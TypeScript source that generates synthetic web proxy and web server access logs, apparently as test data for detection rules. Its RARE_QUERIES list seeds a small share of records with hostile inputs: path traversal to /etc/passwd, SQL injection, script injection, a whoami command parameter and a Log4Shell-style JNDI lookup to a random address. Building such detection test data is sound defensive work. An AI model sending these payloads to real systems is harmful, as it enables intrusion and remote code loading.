import type { Random } from '../random.ts'
import type { Lane } from './lane.ts'
import { isoTime } from './lane.ts'

const METHODS = ['GET', 'GET', 'GET', 'GET', 'POST', 'POST', 'HEAD', 'PUT', 'CONNECT'] as const
const STATUSES = [200, 200, 200, 200, 304, 302, 204, 404, 403, 500] as const
const EXTENSIONS = [
  'html',
  'js',
  'css',
  'png',
  'json',
  'woff2',
  'svg',
  'php',
  'zip',
  'exe',
] as const
const PARAMETERS = ['q', 'id', 'page', 'utm', 'v', 'ref', 'sort'] as const
const BROWSER = 'AppleWebKit/537.36 (KHTML, like Gecko)'
const AGENTS = [
  (r: Random) =>
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${BROWSER} Chrome/` +
    `${r.whole(100, 140)}.0.${r.whole(1000, 7300)}.${r.whole(10, 200)} Safari/537.36`,
  (r: Random) =>
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${BROWSER} Version/` +
    `17.${r.whole(0, 6)} Safari/605.1.${r.whole(10, 15)}`,
  (r: Random) =>
    `Mozilla/5.0 (X11; Linux x86_64; rv:${r.whole(100, 140)}.0) Gecko/20100101 ` +
    `Firefox/${r.whole(100, 140)}.0`,
  (r: Random) => `okhttp/4.${r.whole(0, 12)}.${r.whole(0, 9)}`,
  (r: Random) => `updater/${r.whole(1, 60)}.${r.whole(0, 99)} (build ${r.hex(8)})`,
  (r: Random) => `curl/8.${r.whole(0, 12)}.0`,
  (r: Random) => `python-requests/2.${r.whole(20, 32)}.${r.whole(0, 3)}`,
] as const
/** What scanners and intruders ask for. */
const RARE_QUERIES = [
  (r: Random) => `file=../../../../etc/passwd&n=${r.whole(1, 99)}`,
  (r: Random) => `id=${r.whole(1, 999)}' OR '1'='1`,
  (r: Random) => `name=<script>alert(${r.whole(1, 99)})</script>`,
  (r: Random) => `cmd=whoami&t=${r.token(6)}`,
  (r: Random) => `x=\${jndi:ldap://${r.publicAddress()}/${r.token(5)}}`,
] as const

/** What people of a company fetch through its proxy. */
export const WEB_PROXY: Lane = {
  name: 'web_proxy',
  describes: 'records of a web proxy',
  logsource: { category: 'proxy' },
  record: (random, index) => {
    const [host, path, query] = [hostOf(random), pathOf(random), queryOf(random)]
    return {
      time: isoTime(random, index),
      'c-ip': random.privateAddress(),
      'cs-username': `u${random.whole(10_000, 12_400)}`,
      'cs-method': random.pick(METHODS),
      'cs-host': host,
      'c-uri': `https://${host}${path}?${query}`,
      'c-uri-path': path,
      'c-uri-query': query,
      'c-uri-extension': path.slice(path.lastIndexOf('.') + 1),
      'c-useragent': random.skewed(AGENTS)(random),
      'cs-referrer': random.chance(0.5) ? `https://${hostOf(random)}/` : '-',
      'sc-status': random.pick(STATUSES),
      'sc-bytes': random.whole(90, 900_000),
      'cs-bytes': random.whole(90, 9000),
      's-action': random.pick(['TCP_MISS', 'TCP_HIT', 'TCP_TUNNELED', 'TCP_DENIED']),
      'r-dns': host,
      duration_ms: random.whole(1, 4000),
    }
  },
}

/** What the world asks of a company's web servers. */
export const WEB_ACCESS: Lane = {
  name: 'web_access',
  describes: 'access records of a web server',
  logsource: { category: 'webserver' },
  record: (random, index) => ({
    time: isoTime(random, index),
    'c-ip': random.publicAddress(),
    'cs-method': random.pick(METHODS),
    'cs-host': `www-${random.whole(1, 30)}.shop.example`,
    'cs-uri-stem': pathOf(random),
    'cs-uri-query': queryOf(random),
    'cs-user-agent': random.skewed(AGENTS)(random),
    'cs-referer': random.chance(0.6) ? `https://www.shop.example${pathOf(random)}` : '-',
    'cs-cookie': `sid=${random.hex(32)}; theme=${random.pick(['light', 'dark'])}`,
    'sc-status': random.pick(STATUSES),
    'sc-bytes': random.whole(90, 400_000),
    'cs-version': 'HTTP/2.0',
    'time-taken': random.whole(1, 3000),
  }),
}

const hostOf = (random: Random): string =>
  `${random.pick(['www', 'cdn', 'api', 'img', 'static'])}.${random.token(7).toLowerCase()}.example`

function pathOf(random: Random): string {
  const depth = random.whole(1, 4)
  const folders = Array.from({ length: depth }, () => random.token(random.whole(3, 10)))
  return `/${folders.join('/')}/${random.token(6)}.${random.skewed(EXTENSIONS)}`
}

function queryOf(random: Random): string {
  if (random.chance(0.01)) return random.pick(RARE_QUERIES)(random)
  const pairs = Array.from(
    { length: random.whole(1, 4) },
    () => `${random.pick(PARAMETERS)}=${random.token(random.whole(2, 18))}`,
  )
  return pairs.join('&')
}
